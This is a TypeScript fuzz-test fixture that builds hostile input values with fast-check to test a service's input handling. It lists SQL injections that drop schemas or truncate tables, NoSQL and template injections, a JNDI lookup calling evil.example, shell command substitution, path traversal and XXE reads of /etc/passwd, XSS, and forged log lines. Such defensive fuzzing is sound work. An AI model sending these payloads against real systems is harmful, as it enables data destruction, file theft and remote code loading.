/**
 * The values of the fuzz tests, as JSON text, because JavaScript cannot hold some of the numbers. The listed values are always
 * sent; fast-check generates more from the seed.
 */
import fc from 'fast-check';

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP SCHEMA onceward CASCADE; --",
  '$$; SELECT pg_sleep(9); $$',
  "\\'; TRUNCATE onceward.ledger_entries; --",
  '$1',
  '%s%n%x',
  '{"$ne": null}',
  '{"$where": "sleep(9000)"}',
  "'; return true; var x='",
  '$' + '{7*7}{{7*7}}<%= 7*7 %>#{7*7}',
  '$' + '{jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
  '$(reboot)`reboot`|reboot',
  '<script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  'x\n{"level":"info","operation":"manualReward","success":true,"code":"RECEIPT"}',
  'x\r\n\r\n{"level":"info"}',
  '","success":true,"code":"RECEIPT","x":"',
  'x\u2028{"level":"info"}\u2029\u0085',
  '\u001b[2J\u001b[31m{"level":"info"}\b\b\b',
];
const UNICODE = [
  '\0',
  'a\0b',
  '\ud800',
  '\udfff',
  '\udc00\ud800',
  'key-0123456789abcdef\ud800',
  '🏆',
  '\u202eabc\u202c',
  'مرحبا',
  'e\u0301'.repeat(50),
  `a${'\u0300'.repeat(1_000)}`,
  '\ufeff',
  '\u200b\u200d',
  '\uffff\ufffe',
  'ＡＢＣ０１２',
  'kеy-0123456789abcdef',
  'ﬀ',
  'İı',
];
const LENGTHS = [
  '',
  ' ',
  '\t\n',
  'a'.repeat(129),
  'a'.repeat(256),
  'a'.repeat(8_192),
  'a'.repeat(8_193),
  '漢'.repeat(15_000),
  'a'.repeat(60_000),
];
const NUMERIC_TEXT = ['NaN', 'Infinity', '-1', '0', '1e308', '0x10', '9007199254740993', '١٢'];

const NUMBERS = [
  '0',
  '-0',
  '-1',
  '1',
  '2147483647',
  '2147483648',
  '-2147483649',
  '4294967296',
  '9007199254740991',
  '9007199254740992',
  '9007199254740993',
  '-9007199254740991',
  '-9007199254740992',
  '9223372036854775807',
  '9223372036854775808',
  '18446744073709551616',
  '1e15',
  '1e308',
  '-1e308',
  '1e400',
  '5e-324',
  '0.1',
  '1.0000000000000002',
  '-1.5',
  '2147483647.5',
  '1e2',
];
const OTHERS = [
  'null',
  'true',
  'false',
  '[]',
  '{}',
  '[1]',
  '["x"]',
  '[[[[1]]]]',
  '{"a": 1}',
  '{"__proto__": 1}',
  '{"toString": "x"}',
];
/** Names and values inside an object, for inputs that take one. */
const MEMBERS = [...INJECTIONS.slice(0, 8), ...UNICODE.slice(0, 6), 'x'.repeat(300)].flatMap((text) => [
  JSON.stringify({ rank: text }),
  JSON.stringify({ [text]: 1 }),
]);

/** JSON.stringify writes a lone surrogate as its escape, which is how a client would send it. */
export const LISTED: readonly string[] = [
  ...[...INJECTIONS, ...UNICODE, ...LENGTHS, ...NUMERIC_TEXT].map((text) => JSON.stringify(text)),
  ...NUMBERS,
  ...OTHERS,
];
export const LISTED_FOR_OBJECTS: readonly string[] = [
  ...LISTED,
  ...MEMBERS,
  ...NUMBERS.map((number) => `{"rank": ${number}, "participants": 2}`),
];

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  // UTF-16 units of any kind, which include lone surrogates.
  fc
    .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 40 })
    .map((units) => String.fromCharCode(...units)),
  fc.tuple(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 20 })).map(([known, more]) => known + more),
  fc.stringMatching(/^[A-Za-z0-9_.:@-]{0,140}$/),
);
const number = fc.oneof(
  fc.double().map((value) => (Number.isFinite(value) ? String(value) : '1e400')),
  fc.maxSafeInteger().map(String),
  fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String),
);

/** Any JSON text. */
export const hostileValue = fc.oneof(
  { weight: 4, arbitrary: text.map((value) => JSON.stringify(value)) },
  { weight: 2, arbitrary: number },
  { weight: 1, arbitrary: fc.json({ maxDepth: 3 }) },
);
